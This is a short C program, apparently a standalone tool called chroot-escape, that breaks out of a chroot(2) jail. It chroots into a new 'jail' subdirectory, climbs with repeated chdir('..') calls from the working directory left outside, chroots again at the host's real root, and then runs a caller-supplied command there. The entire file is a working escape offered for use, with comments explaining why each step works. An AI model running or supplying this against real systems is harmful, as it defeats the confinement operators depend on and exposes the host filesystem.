/* chroot-escape CMD [ARG...]: leave a chroot(2) as its root, run CMD outside. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
	if (argc < 2) {
		fprintf(stderr, "usage: chroot-escape CMD [ARG...]\n");
		return 125;
	}
	if (mkdir("jail", 0700) < 0 && errno != EEXIST)
		return perror("mkdir(jail)"), 125;
	if (chroot("jail") < 0)		/* / moves down, the cwd stays above */
		return perror("chroot(jail)"), 125;
	for (int i = 0; i < 64; i++)	/* ".." of a cwd above / is not / */
		if (chdir("..") < 0)
			return perror("chdir(..)"), 125;
	if (chroot(".") < 0)		/* the top we reached: the host's / */
		return perror("chroot(.)"), 125;
	execvp(argv[1], &argv[1]);
	perror(argv[1]);
	return 127;
}
